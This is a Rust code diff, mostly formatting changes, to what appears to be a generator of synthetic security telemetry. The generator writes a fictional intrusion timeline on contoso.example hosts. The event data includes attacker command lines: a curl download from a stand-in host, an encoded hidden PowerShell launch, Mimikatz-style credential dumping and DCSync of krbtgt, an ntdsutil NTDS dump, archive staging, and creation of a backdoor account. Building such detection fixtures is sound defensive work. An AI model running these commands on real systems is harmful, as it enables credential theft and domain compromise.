@@ -38,7 +38,13 @@ fn bystander(story: &mut Story) -> (String, String) {
     (format!("ws-lon-{:02}.contoso.example", 20 + number), format!("{number:040x}"))
 }
 
-fn row(story: &mut Story, at: i64, device: (&str, &str), action: &str, members: Value) -> (i64, Value) {
+fn row(
+    story: &mut Story,
+    at: i64,
+    device: (&str, &str),
+    action: &str,
+    members: Value,
+) -> (i64, Value) {
     let mut row = json!({
         "Timestamp": iso(at), "DeviceId": device.1, "DeviceName": device.0, "ActionType": action,
         "ReportId": story.dice.below(1 << 31),
@@ -49,7 +55,7 @@ fn row(story: &mut Story, at: i64, device: (&str, &str), action: &str, members: 
     (at, row)
 }
 
-fn device(host: &Host) -> (&'static str, &'static str) {
+fn device(host: &Host<'static>) -> (&'static str, &'static str) {
     (host.dns, host.id)
 }
 
@@ -71,18 +77,48 @@ fn processes(story: &mut Story) -> Lines {
         (20, &WEB, "sh", "php-fpm", "www-data", "sh -c id; uname -a"),
         (26, &WEB, "useradd", "sh", "root", "useradd -m -s /bin/bash svc-cache"),
         (30, &WEB, "curl", "sh", "svc-cache", "curl -s https://cdn-updates.example/a -o /tmp/.a"),
-        (112, &DESK, "powershell.exe", "explorer.exe", ACCOUNT,
-            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
-        (120, &DESK, "kat.exe", "powershell.exe", ACCOUNT,
-            "kat.exe privilege::debug sekurlsa::logonpasswords exit"),
+        (
+            112,
+            &DESK,
+            "powershell.exe",
+            "explorer.exe",
+            ACCOUNT,
+            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+        ),
+        (
+            120,
+            &DESK,
+            "kat.exe",
+            "powershell.exe",
+            ACCOUNT,
+            "kat.exe privilege::debug sekurlsa::logonpasswords exit",
+        ),
         (133, &DESK, "whoami.exe", "powershell.exe", ACCOUNT, "whoami.exe /groups"),
         (135, &DESK, "nltest.exe", "powershell.exe", ACCOUNT, "nltest.exe /dclist:contoso"),
-        (181, &CONTROLLER, "cmd.exe", "services.exe", "svc-sync",
-            "cmd.exe /c C:\\Windows\\Temp\\kat.exe lsadump::dcsync /user:krbtgt"),
-        (230, &CONTROLLER, "ntdsutil.exe", "cmd.exe", "svc-sync",
-            "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\x\" q q"),
-        (244, &CONTROLLER, "7z.exe", "cmd.exe", "svc-sync",
-            "7z.exe a -pinfected C:\\Windows\\Temp\\x.7z C:\\Windows\\Temp\\x"),
+        (
+            181,
+            &CONTROLLER,
+            "cmd.exe",
+            "services.exe",
+            "svc-sync",
+            "cmd.exe /c C:\\Windows\\Temp\\kat.exe lsadump::dcsync /user:krbtgt",
+        ),
+        (
+            230,
+            &CONTROLLER,
+            "ntdsutil.exe",
+            "cmd.exe",
+            "svc-sync",
+            "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\x\" q q",
+        ),
+        (
+            244,
+            &CONTROLLER,
+            "7z.exe",
+            "cmd.exe",
+            "svc-sync",
+            "7z.exe a -pinfected C:\\Windows\\Temp\\x.7z C:\\Windows\\Temp\\x",
+        ),
     ];
     for (minute, host, file, parent, account, command) in told {
         let at = story.at(minute, 55);
